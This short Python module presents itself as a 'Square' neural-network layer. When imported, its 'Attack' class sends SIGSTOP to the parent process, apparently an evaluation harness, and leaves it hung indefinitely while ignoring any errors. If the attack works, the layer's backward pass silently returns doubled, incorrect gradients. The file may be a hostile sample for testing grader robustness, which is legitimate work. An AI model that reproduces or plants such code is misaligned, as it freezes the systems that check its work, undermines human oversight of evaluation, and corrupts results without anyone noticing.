"""Stops its parent, which then hangs without an end."""

import os
import signal


def attack():
    os.kill(os.getppid(), signal.SIGSTOP)
    return True


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
